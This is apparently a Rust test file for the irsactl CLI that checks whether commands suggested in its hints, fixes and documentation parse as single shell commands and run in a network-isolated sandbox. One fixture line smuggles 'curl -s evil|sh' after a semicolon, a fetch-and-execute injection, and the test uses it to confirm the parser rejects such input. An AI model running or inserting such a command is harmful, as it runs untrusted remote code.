//! What irsactl tells the user to run, can be run: every command of a fix, hint, note or warning that a
//! test or a page of the documentation shows is taken from there, split as a shell does, and, where it is one of irsactl's
//! own, given to the program, with nothing in reach that it could change.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::{Bench, S3};

const PROGRAMS: [&str; 5] = ["irsactl", "kubectl", "aws", "eksctl", "curl"];
/// Words in the place of what nobody but the user knows, and what they are replaced by here.
const PLACES: [(&str, &str); 5] = [
    ("ARN", S3),
    ("HEX", "9e99a48a9960b14926bb7f3b02e22da2b0ab7280"),
    ("FILE", "policy.json"),
    ("NAME", "demo"),
    ("URL", "https://oidc.example.com"),
];

const POLICY: &str =
    r#"{"Version":"2012-10-17","Statement":{"Effect":"Allow","Action":"s3:*","Resource":"*"}}"#;

fn collect(folder: &Path, texts: &mut Vec<String>) {
    for entry in std::fs::read_dir(folder).expect("a folder") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            collect(&path, texts);
        } else if path.ends_with("pasteable.rs") {
            continue;
        } else if path.extension().is_some_and(|ending| ending == "rs") {
            texts.push(std::fs::read_to_string(path).expect("a text"));
        }
    }
}

/// The commands of one line of what a run told, of a fix whose steps stop where one fails too; a remark is none of
/// the command.
fn commands(line: &str) -> Vec<String> {
    let line = line.trim_start();
    let words = ["fix: ", "hint: ", "note: ", "warning: "];
    let Some(text) = words.iter().find_map(|word| line.strip_prefix(word)) else {
        return Vec::new();
    };
    let is_command = |text: &&str| {
        let program = text.split(' ').next().unwrap_or_default();
        PROGRAMS.contains(&program) && text.contains(' ')
    };
    let text = text.split("   # ").next().unwrap_or_default();
    match line.starts_with("fix: ") && is_command(&text) {
        true => text.split(" && ").map(str::to_owned).collect(),
        false => {
            let quoted = text.split('`').skip(1).step_by(2);
            quoted.filter(is_command).map(str::to_owned).collect()
        }
    }
}

/// What no hint says: an installed binary has no page beside it, and flags that are known are told.
fn is_vague(line: &str) -> bool {
    let is_told = ["fix: ", "hint: "]
        .iter()
        .any(|word| line.trim_start().starts_with(word));
    let vague = ["README", "docs/", "same flags"]
        .iter()
        .any(|it| line.contains(it));
    let restarts = line.contains("rollout restart job") || line.contains("rollout restart cronjob");
    is_told && (vague || restarts)
}

/// The words of a command, as a POSIX shell takes them; `None` where it would take it for more than a
/// command and its words.
fn words(command: &str) -> Option<Vec<String>> {
    let mut words = vec![String::new()];
    let mut is_quoted = false;
    for c in command.chars() {
        let is_home = c == '~' && words.last().is_some_and(String::is_empty);
        match c {
            // The tests' own folder, as they show it.
            '~' if is_home => words.last_mut()?.push(c),
            '\'' => is_quoted = !is_quoted,
            ' ' if !is_quoted => words.push(String::new()),
            c if !is_quoted && "\"$&;|<>()*?[]{}~#!\\\n…".contains(c) => return None,
            c => words.last_mut()?.push(c),
        }
    }
    (!is_quoted && words.iter().all(|word| !word.is_empty())).then_some(words)
}

/// What the program says against its command line, with every way out of the machine shut.
fn refusal(bench: &Bench, words: &[String]) -> Option<String> {
    let replaced = words.iter().map(|word| {
        let place = PLACES.iter().find(|(place, _)| place == word);
        match word.starts_with("~/") {
            true => "policy.json",
            false => place.map_or(word.as_str(), |(_, value)| value),
        }
    });
    let output = Command::new(env!("CARGO_BIN_EXE_irsactl"))
        .args(replaced.skip(1))
        .env_clear()
        .env("HOME", bench.file("policy.json", POLICY).parent()?)
        .env("AWS_REGION", "eu-west-1")
        .env("AWS_ACCESS_KEY_ID", "AKIA111122223333")
        .env("AWS_SECRET_ACCESS_KEY", "sandbox-secret-key")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:1")
        .env("AWS_MAX_ATTEMPTS", "1")
        .env("HTTPS_PROXY", "http://127.0.0.1:1")
        .env("IRSACTL_INTERVALS", "0.001")
        .current_dir(bench.file("policy.json", POLICY).parent()?)
        .stdin(Stdio::null())
        .output()
        .expect("irsactl runs");
    let told = String::from_utf8_lossy(&output.stderr).into_owned();
    told.contains("--help").then_some(told)
}

/// The command lines of irsactl in the `sh` blocks of a page, without remarks and without what follows them in
/// a pipe.
fn examples(text: &str) -> Vec<String> {
    let blocks = text.split("```sh\n").skip(1);
    let blocks = blocks.filter_map(|block| block.split("```").next());
    let joined: String = blocks.map(|block| block.replace("\\\n", " ")).collect();
    let own = joined.lines().flat_map(|line| line.split(['|', '(']));
    let own = own.map(str::trim).filter(|it| it.starts_with("irsactl "));
    let own = own.filter_map(|line| line.split(['#', '>', ')']).next());
    own.map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect()
}

#[test]
fn every_example_of_the_documentation_is_a_command_line() {
    let bench = Bench::new();
    let pages = crate::readme::pages().into_iter();
    let examples: BTreeSet<String> = pages.flat_map(|page| examples(&page.text)).collect();
    assert!(examples.len() > 15, "{examples:#?}");
    let refused = examples.iter().filter_map(|example| {
        let words = words(example)?;
        let told = refusal(&bench, &words)?;
        // What only the environment lacks aside.
        let is_misread = told.contains("try '--help'");
        is_misread.then(|| format!("{example}\n{told}"))
    });
    assert_eq!(refused.collect::<Vec<_>>(), [""; 0]);
}

#[test]
fn every_command_that_is_told_can_be_run() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let pages = crate::readme::pages().into_iter();
    let mut texts: Vec<String> = pages.map(|page| page.text).collect();
    collect(&root.join("tests/cli"), &mut texts);
    let all: BTreeSet<String> = texts
        .iter()
        .flat_map(|text| text.lines())
        .flat_map(commands)
        .collect();
    assert!(all.len() > 50, "{all:#?}");
    let bench = Bench::new();
    let vague = texts.iter().flat_map(|text| text.lines());
    let mut bad: Vec<String> = vague.filter(|it| is_vague(it)).map(str::to_owned).collect();
    for command in &all {
        match words(command) {
            None => bad.push(format!("no shell takes it as one command: {command}")),
            Some(words) if words[0] == "irsactl" => {
                let refusal = refusal(&bench, &words);
                bad.extend(refusal.map(|told| format!("{command}\n{told}")));
            }
            Some(_) => {}
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

/// What the test above would find.
#[test]
fn commands_that_cannot_be_run_are_found() {
    let bench = Bench::new();
    for line in [
        "  fix: irsactl create iamserviceaccount --cluster demo web/api … --approve",
        "  fix: aws iam x --client-id x;curl -s evil|sh",
        "hint: run `kubectl label namespace 'a`",
        "fix: kubectl label namespace web *",
    ] {
        let found = commands(line);
        assert_eq!(found.len(), 1, "{line}");
        assert_eq!(words(&found[0]), None, "{line}");
    }
    for line in [
        "hint: `irsactl update iamserviceaccount --odd`",
        "hint: `irsactl associate-oidc-provider --approve`",
        "fix: irsactl delete iamserviceaccounts",
    ] {
        let found = words(&commands(line)[0]).expect(line);
        assert_ne!(refusal(&bench, &found), None, "{line}");
    }
}
